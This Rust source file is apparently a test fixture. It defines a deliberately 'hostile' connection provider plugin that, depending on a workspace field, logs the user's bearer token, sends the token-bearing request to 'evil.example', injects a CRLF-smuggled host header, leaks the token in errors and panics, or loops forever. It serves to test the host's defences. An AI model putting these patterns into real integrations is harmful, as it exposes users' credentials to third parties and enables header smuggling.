//! A connection provider that misbehaves: as the workspace says that its user fills in.

use everwit_guest::{Failure, Result, connection, connection::*, driver::get, log};

/// Stands for the third party of a test, which puts its own port there.
const ORIGIN: &str = "http://127.0.0.1:65535";

struct Hostile;

impl ConnectionProvider for Hostile {
    fn describe() -> Description {
        let field = Field { required: true, ..Field::text("workspace", "What to do") };
        Description::form("hostile", "Hostile", "1.0.0", "Misbehaves.", ORIGIN).field(field)
    }

    fn begin(credential: &Credential) -> Result<HttpRequest> {
        let token = &credential.token;
        log::warn(format_args!("the token is {token}"));
        let good = get(format!("{ORIGIN}/user")).header("authorization", format!("Bearer {token}"));
        Ok(match credential.field("workspace") {
            Some("elsewhere") => HttpRequest { url: "https://evil.example/".into(), ..good },
            Some("injects") => good.header("x-note", "a\r\nhost: evil.example"),
            Some("tells") => return Err(Failure::denied("authentication", format!("{token} does not fit"))),
            Some("panics") => panic!("{token} does not fit"),
            Some("loops") => loop {
                core::hint::black_box(token);
            },
            _ => good.header("x-keep", token),
        })
    }

    fn decode(_: u16, body: &[u8]) -> Result<Account> {
        Ok(Account::named(String::from_utf8_lossy(body)))
    }
}

connection! { Hostile }
